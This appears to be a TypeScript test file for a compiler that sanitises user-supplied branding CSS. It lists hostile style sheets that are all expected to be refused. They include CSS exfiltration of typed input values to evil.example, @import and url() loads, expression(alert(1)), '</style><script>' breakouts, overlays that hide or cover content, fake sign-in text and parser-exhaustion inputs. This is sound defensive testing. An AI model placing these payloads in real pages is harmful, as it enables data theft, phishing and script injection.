import assert from 'node:assert/strict';
import { readFile, writeFile } from 'node:fs/promises';
import { describe, test } from 'node:test';
import { compileStyleSheet } from './compile.ts';
import { styleParts } from './parts.ts';
import type { Ground } from './surfaces.ts';

const OURS: Ground = { accentColor: null, backgroundColor: null };
const compiled = (css: string, ground = OURS) => compileStyleSheet(css, ground);

/** A style sheet that asks for what it must not have, and the fault that is named. Nothing of it may reach the page. */
const HOSTILE: readonly [what: string, css: string, expected: RegExp][] = [
  ['loads a style sheet', '@import "https://evil.example/x.css";', /^1:1 @import is refused; expected @media/],
  [
    'loads a font',
    '@font-face { font-family: x; src: url(https://evil.example/f.woff2) }',
    /^1:1 @font-face is refused/,
  ],
  ['changes the encoding', '@charset "utf-7"; .card { padding: 1rem }', /^1:1 @charset is refused/],
  ['opens a namespace', '@namespace url(https://evil.example/);', /@namespace is refused/],
  [
    'asks whether something is supported',
    '@supports (display: grid) { .card { padding: 1rem } }',
    /@supports is refused/,
  ],
  ['sets a layer', '@layer base { .card { padding: 1rem } }', /@layer is refused/],
  ['registers a property', '@property --x { syntax: "*"; inherits: true }', /@property is refused/],
  ['loads a picture', '.page { background: url(https://evil.example/x.png) }', /^1:21 addresses are refused/],
  [
    'loads a picture by a string',
    '.page { background: image-set("https://evil.example/x.png" 1x) }',
    /addresses are refused/,
  ],
  ['loads a picture of our host', '.page { background: url(/account/data/export) }', /addresses are refused/],
  [
    'loads by an escaped name',
    '.page { background: u\\72l(https://evil.example/x) }',
    /addresses are refused|expected a/,
  ],
  [
    'sets a picture',
    '.card { background-image: linear-gradient(#fff, #000) }',
    /background-image is refused for \.card/,
  ],
  ['runs a script', '.card { width: expression(alert(1)) }', /width is refused/],
  ['runs a script in a value', '.title { color: expression(alert(1)) }', /expression\(\) is refused/],
  [
    'binds a behaviour',
    '.card { -moz-binding: url(https://evil.example/x.xml#a); behavior: url(x.htc) }',
    /is refused/,
  ],
  ['reads what is typed', 'input[value^="a"] { background: url(https://evil.example/a) }', /^1:1 expected a part/],
  ['reads a part’s attribute', '.field[value^="a"] { color: #000 }', /^1:7 expected .*nothing else|expected :hover/],
  ['asks for what is inside', '.card:has(.field) { color: #000 }', /^1:6 \.card stands alone/],
  ['asks for the focus of a field', '.card:focus-within { padding: 1rem }', /\.card stands alone/],
  ['names an element', 'form { padding: 1rem }', /expected a part/],
  ['names everything', '* { color: #000 }', /expected a part/],
  ['names the root', ':root { color: #000 }', /expected a part/],
  ['names an id', '#title { color: #000 }', /expected a part/],
  ['names an error', '.fault { color: #fff }', /there is no part \.fault; expected one of \.page/],
  ['names what an application asks for', '.scopes { color: #fff }', /there is no part \.scopes/],
  ['names a property of every object', '.constructor { color: #fff } .__proto__ { color: #fff }', /there is no part/],
  ['names something after a part', '.card + .note { color: #000 }', /nothing else|expected/],
  ['names something in a part', '.card .lead { color: #000 }', /expected/],
  ['writes text', '.title::after { content: "Sign in at evil.example" }', /expected|stands alone/],
  ['writes text into a part', '.title { content: "x" }', /content is refused/],
  ['hides', '.lead { display: none }', /display is refused/],
  ['hides by visibility', '.lead { visibility: hidden }', /visibility is refused/],
  ['hides by transparency', '.card { opacity: 0 }', /opacity is refused/],
  [
    'hides by a colour',
    '.lead { color: #ffffff }',
    /#ffffff on #ffffff has a contrast of 1\.0 in the light theme; expected 4\.5/,
  ],
  ['hides by a colour in one theme', '.lead { color: light-dark(#000, #222) }', /in the dark theme/],
  ['hides by a transparent colour', '.lead { color: rgb(0 0 0 / 0) }', /without transparency/],
  ['hides by no colour', '.lead { color: transparent }', /without transparency/],
  ['hides by the background', '.card { background: #14171c }', /expected a color for \.card, too/],
  [
    'hides by a background in one theme',
    '.card { background: light-dark(#fff, #fff); color: light-dark(#000, #eee) }',
    /in the dark theme/,
  ],
  [
    'hides texts in fields',
    '.card { background: light-dark(#222, #eee); color: light-dark(#eee, #222) }',
    /expected no dark background/,
  ],
  ['hides by size', '.lead { font-size: 0 }', /a length from 14px to 40px/],
  ['hides by a size of nothing else', '.lead { font-size: 0.01em }', /in px or rem/],
  ['hides by lines', '.lead { line-height: 0 }', /a number from 1\.2 to 2/],
  ['hides by spacing', '.lead { letter-spacing: -1em }', /from -0\.03em to 0\.15em/],
  ['hides by indentation', '.lead { text-indent: -9999px }', /text-indent is refused/],
  ['hides by cutting', '.card { overflow: hidden; height: 1px; clip-path: inset(50%) }', /overflow is refused/],
  ['hides by a filter', '.card { filter: opacity(0) }', /filter is refused/],
  ['hides by a font of symbols', '.lead { font-family: Wingdings }', /font-family is refused/],
  ['moves', '.card { position: fixed; inset: 0; z-index: 9 }', /position is refused/],
  ['moves by a transformation', '.card { transform: translateX(-100vw) }', /transform is refused/],
  ['moves by a margin', '.card { margin-top: -50rem }', /margin-top is refused/],
  ['changes the order', '.button { order: -1 }', /order is refused/],
  ['turns the words around', '.lead { direction: rtl; unicode-bidi: bidi-override }', /direction is refused/],
  ['covers by a shadow', '.card { box-shadow: 0 0 0 100vmax #fff }', /two to four lengths|a length|half transparent/],
  ['covers by a shadow inside', '.card { box-shadow: inset 0 0 0 20px #0008 }', /expected none or up to two shadows/],
  ['covers by an outline', '.button { outline: 90vmax solid #fff }', /outline is refused/],
  ['covers by a border', '.card { border: 900px solid #fff }', /a length from 0px to 4px/],
  ['takes the clicks', '.card { pointer-events: none }', /pointer-events is refused/],
  ['blinks', '.card { animation: x 1s infinite }', /animation is refused/],
  ['moves by a frame', '@keyframes x { to { opacity: 0 } }', /@keyframes is refused/],
  ['sets a variable', '.card { --text: transparent }', /--text is refused/],
  ['reads a variable', '.title { color: var(--page) }', /var\(\) is refused/],
  ['insists', '.title { color: #000 !important }', /!important is refused/],
  ['sets everything', '.card { all: unset }', /all is refused/],
  ['takes the forced colours away', '.card { forced-color-adjust: none }', /forced-color-adjust is refused/],
  ['nests', '.card { & .fault { color: #fff } }', /rules in rules are refused|expected|identifier/],
  [
    'asks for a medium that shows the device',
    '@media (prefers-color-scheme: dark) { .card { padding: 1rem } }',
    /expected @media \(min-width/,
  ],
  [
    'asks for a list of widths',
    '@media (min-width: 1px), print { .card { padding: 1rem } }',
    /expected @media \(min-width/,
  ],
  ['asks for colours by width', '@media (min-width: 1px) { .lead { color: #fff } }', /colours are refused in @media/],
  ['ends the style element', '</style><script>alert(1)</script>', /expected/],
  ['ends the style element in a string', '.title { color: "</style><script>alert(1)</script>" }', /expected a colour/],
  ['ends the style element in a name', '.x\\3c \\2fstyle\\3e { color: #000 }', /there is no part/],
  [
    'ends the style element in a comment',
    '/* </style><script>alert(1)</script> */ .title { colour: #000 }',
    /colour is refused/,
  ],
  ['ends our block', '.title { color: #000 } } .fault { display: none } {', /expected/],
  ['is cut short', '.title { color: rgb(', /expected/],
  ['is no CSS', '((((((((((', /expected/],
  ['has a number without an end', `.title { line-height: ${'9'.repeat(400)} }`, /a number from 1\.2 to 2/],
  ['has an endless hue', '.title { color: hsl(1e999 0% 0%) }', /expected a colour/],
  ['is deeper than the parser', `${':is('.repeat(2_400)}`, /expected|cannot be read/],
  ['is deeper than the parser in a value', `.title { color: ${'('.repeat(9_000)} }`, /expected|cannot be read/],
  ['has a zero byte', '.ti\u0000tle { color: #000 }', /unexpected input/],
];

describe('a hostile style sheet', () => {
  for (const [what, css, expected] of HOSTILE)
    test(`that ${what} is refused, and nothing of it is shown`, async () => {
      const { faults, css: shown } = await compiled(css);
      const said = faults.map(({ line, column, message }) => `${line}:${column} ${message}`);
      assert.ok(
        said.some((fault) => expected.test(fault)),
        said.join('\n'),
      );
      // What is left of it is made of these characters alone.
      assert.doesNotMatch(shown, /url|expression|evil|script|content|[<>"'\\@](?!media)|fault|scopes/i);
    });

  test('names at most twenty faults', async () => {
    const { faults, css } = await compiled('.a{b:c}'.repeat(1_400));
    assert.equal(faults.length, 20);
    assert.equal(css, '');
  });
});

describe('a style sheet', () => {
  test('is compiled to our selectors, layers and units', async () => {
    const { faults, css } = await compiled(`
      /* The card of the shop */
      .card { padding: 24px 2rem; border: 2px solid hsl(219 74% 44%); box-shadow: 0 4px 12px rgb(0 0 0 / 20%) }
      .TITLE, .title { font-weight: bold; text-transform: UPPERCASE; letter-spacing: .02em }
      .button { background: #ffdd00; color: black; border-radius: 0 }
      .button:hover { background: #ffee66 }
      @media (min-width: 40rem) { .title { font-size: 32px } }`);
    assert.deepEqual(
      faults.map(({ line, message }) => [line, message.slice(0, 25)]),
      [[4, 'there is no part .TITLE; ']],
    );
    assert.equal(
      css,
      '@media (forced-colors: none) and (not (prefers-contrast: more)){:root{--link-of-brand:var(--link)}' +
        '.card{padding:1.5rem 2rem;border-style:solid;border-color:#1d57c3}@media (min-width:30.01rem){.card{border-width:0.125rem;box-shadow:0 0.25rem 0.75rem #00000033}}' +
        'h1{font-weight:bold;text-transform:uppercase;letter-spacing:0.02em}' +
        ':is(button, a.button):not(.second, .plain, .danger, .person){background-color:#ffdd00;color:#000000;border-radius:0}' +
        ':is(button, a.button):not(.second, .plain, .danger, .person):hover{background-color:#ffee66}' +
        '@media (min-width:40rem){h1{font-size:2rem}}}',
    );
  });

  test('without a rule is none', async () => {
    assert.deepEqual(await compiled(' /* nothing */ .card {}'), { faults: [], css: '' });
  });

  test('sees that texts are readable on the colours of the brand', async () => {
    const css = '.note { color: #663399 }';
    assert.equal((await compiled('.note { color: light-dark(#663399, #cc99ff) }')).faults.length, 0);
    assert.match((await compiled(css)).faults[0]?.message ?? '', /#663399 on #0f1217 .*dark theme/);
    const onPurple = await compiled('.note { color: light-dark(#663399, #cc99ff) }', {
      ...OURS,
      backgroundColor: '#553388',
    });
    assert.match(onPurple.faults[0]?.message ?? '', /#663399 on #553388/);
  });

  test('adapts what stands on a new background, so that it can be read', async () => {
    const { faults, css } = await compiled('.page { background: #1b0f2e; color: #f2e9ff }');
    assert.deepEqual(faults, []);
    assert.match(css, /body\{color-scheme:dark;--page:#1b0f2e;--text:#f2e9ff;/);
    assert.match(css, /\.card\{color-scheme:dark;--text:light-dark\(#14171c,#eef1f5\)/);
  });
});

describe('the documentation', () => {
  test('names every part, what it is, and what it may be given', async () => {
    const file = new URL('../../docs/branding.md', import.meta.url);
    const text = await readFile(file, 'utf8');
    const rows = Object.entries(styleParts).map(
      ([name, { about, properties, states = [] }]) =>
        `| \`.${name}\` | ${about} | ${properties.map((property) => `\`${property}\``).join(', ')} | ${states.map((state) => `\`:${state}\``).join(', ')} |`,
    );
    const table = ['| part | what it is | properties | states |', '|---|---|---|---|', ...rows].join('\n');
    const wanted = text.replace(/(?<=<!-- parts -->\n)[\s\S]*?(?=<!-- \/parts -->)/, `\n${table}\n\n`);
    if (process.env['UPDATE_DOCS'] === '1') await writeFile(file, wanted);
    else assert.equal(text, wanted, 'UPDATE_DOCS=1 writes it');
  });
});
